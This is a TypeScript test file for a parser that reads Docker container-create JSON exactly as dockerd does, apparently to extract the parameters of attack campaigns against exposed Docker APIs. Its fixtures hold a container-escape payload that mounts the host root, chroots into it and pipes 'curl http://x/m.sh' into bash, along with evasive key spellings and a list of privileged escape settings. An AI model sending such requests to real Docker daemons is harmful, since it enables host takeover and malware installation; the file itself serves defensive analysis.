import { containerCreate, shellJoin } from './container-params';
import { ambiguousKeys, field, isObject, JsonSyntaxError, parseDockerJson, toPlain } from './docker-json';

const SEED =
  '{"Image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"HostConfig":{"Binds":["/:/mnt"]}}';

function params(body: string) {
  return containerCreate(parseDockerJson(body));
}

describe('Docker JSON as dockerd reads it', () => {
  const canonical = params(SEED);

  it('extracts the seed campaign parameters', () => {
    expect(canonical.image).toBe('alpine');
    expect(canonical.params.binds).toEqual(['/:/mnt']);
    expect(canonical.args).toEqual(['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash']);
    expect(canonical.commandLine).toBe("chroot /mnt /bin/sh -c 'curl -sL4 http://x/m.sh | bash'");
  });

  // each spelling is read by dockerd as the seed request: the parameters must be the same
  it.each([
    [
      'lower-case keys',
      '{"image":"alpine","cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"hostconfig":{"binds":["/:/mnt"]}}',
    ],
    [
      'mixed case',
      '{"iMaGe":"alpine","CMD":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"HOSTCONFIG":{"BINDS":["/:/mnt"]}}',
    ],
    [
      '\\u escapes in keys and values',
      '{"\\u0049mage":"alp\\u0069ne","Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"HostConfig":{"\\u0042inds":["\\/:\\/mnt"]}}',
    ],
    [
      'a decoy value before the real one (last wins)',
      '{"Image":"nginx","HostConfig":{"Binds":["/srv:/srv"]},"Cmd":["true"],"image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"hostConfig":{"Binds":["/:/mnt"]}}',
    ],
    [
      'long s and Kelvin sign fold like Go (Hoſtconfig)',
      '{"Image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"Ho\\u017ftConfig":{"Bind\\u017f":["/:/mnt"]}}',
    ],
    [
      'whitespace',
      ' {\n "Image" : "alpine" ,\t"Cmd":["chroot","/mnt","/bin/sh","-c","curl -sL4 http://x/m.sh | bash"],"HostConfig":{"Binds":["/:/mnt"]}}\n',
    ],
  ])('%s', (_name, body) => {
    expect(params(body)).toEqual(canonical);
  });

  it('repeated objects merge as Go decodes them into the same struct; null starts over', () => {
    const p = params(
      '{"Image":"a","HostConfig":{"Privileged":true,"Binds":["/x:/x"]},"HostConfig":{"Binds":["/:/mnt"]}}',
    );
    expect(p.params.privileged).toBe(true);
    expect(p.params.binds).toEqual(['/:/mnt']);
    const q = params(
      '{"Image":"a","HostConfig":{"Privileged":true},"HostConfig":null,"HostConfig":{"Binds":["/:/mnt"]}}',
    );
    expect(q.params.privileged).toBe(false);
    expect(q.params.binds).toEqual(['/:/mnt']);
  });

  it('Cmd and Entrypoint may be a single string (Docker strslice)', () => {
    const p = params('{"Image":"a","Entrypoint":"/bin/sh","Cmd":"-c id"}');
    expect(p.args).toEqual(['/bin/sh', '-c id']);
    expect(p.commandLine).toBe("/bin/sh '-c id'");
  });

  it('reads the escape-relevant HostConfig fields and keeps environment values out', () => {
    const p = params(
      JSON.stringify({
        Image: 'x',
        User: 'root',
        Env: ['AWS_SECRET_ACCESS_KEY=hunter2', 'PATH=/bin'],
        HostConfig: {
          Privileged: true,
          CapAdd: ['SYS_ADMIN'],
          PidMode: 'host',
          IpcMode: 'host',
          NetworkMode: 'host',
          UsernsMode: 'host',
          SecurityOpt: ['apparmor=unconfined', 'seccomp=unconfined'],
          Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }],
          Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/var/run/docker.sock' }],
          RestartPolicy: { Name: 'always' },
        },
      }),
    );
    expect(p.params).toMatchObject({
      privileged: true,
      cap_add: ['SYS_ADMIN'],
      pid_mode: 'host',
      ipc_mode: 'host',
      network_mode: 'host',
      userns_mode: 'host',
      security_opt: ['apparmor=unconfined', 'seccomp=unconfined'],
      devices: ['/dev/sda:/dev/sda'],
      mounts: [{ type: 'bind', source: '/var/run/docker.sock', target: '/var/run/docker.sock', read_only: false }],
      restart_policy: 'always',
      user: 'root',
      env_names: ['AWS_SECRET_ACCESS_KEY', 'PATH'],
    });
    expect(JSON.stringify(p)).not.toContain('hunter2');
  });

  it('reports ambiguous keys, and keeps map keys (Labels) case-sensitive', () => {
    const v = parseDockerJson('{"Image":"a","image":"b","Labels":{"a":"1","A":"2"}}');
    if (!isObject(v)) throw new Error('object expected');
    expect(ambiguousKeys(v)).toEqual(['image']);
    expect(toPlain(field(v, 'Labels') ?? null)).toEqual(Object.assign(Object.create(null), { a: '1', A: '2' }));
  });

  it('rejects malformed and over-deep JSON with an offset, never hangs or overflows', () => {
    for (const bad of ['', '{', '{"a":}', '[1,]', '{"a" 1}', '"\\x"', '01', '{"a":1}x', '{"a":"\u0001"}'])
      expect(() => parseDockerJson(bad)).toThrow(JsonSyntaxError);
    expect(() => parseDockerJson('['.repeat(100_000))).toThrow(/nesting deeper/);
  });

  it('parses what JSON.parse parses, to the same plain value (random documents)', () => {
    let x = 3;
    // Math.imul keeps the LCG exact: a float product loses the low bits and the sequence collapses
    const rnd = (n: number): number => ((x = (Math.imul(x, 1103515245) + 12345) & 0x7fffffff), (x >>> 8) % n);
    const gen = (d: number): unknown => {
      const k = rnd(d > 3 ? 4 : 7);
      if (k === 0) return rnd(1000) - 500 + (rnd(2) ? 0.5 : 0);
      if (k === 1) return ['a', 'é', '"q"', 'x\\y', '\n', '😀'][rnd(6)];
      if (k === 2) return [true, false, null][rnd(3)];
      if (k === 3) return 'plain';
      if (k === 4) return Array.from({ length: rnd(4) }, () => gen(d + 1));
      return Object.fromEntries(Array.from({ length: rnd(4) }, (_, i) => [`k${i}${rnd(3)}`, gen(d + 1)]));
    };
    for (let n = 0; n < 500; n++) {
      const text = JSON.stringify(gen(0));
      expect(JSON.parse(JSON.stringify(toPlain(parseDockerJson(text))))).toEqual(JSON.parse(text));
    }
  });

  it('shellJoin quotes what a shell would split', () => {
    expect(shellJoin(['sh', '-c', "echo 'hi' | cat", ''])).toBe(`sh -c 'echo '\\''hi'\\'' | cat' ''`);
  });
});
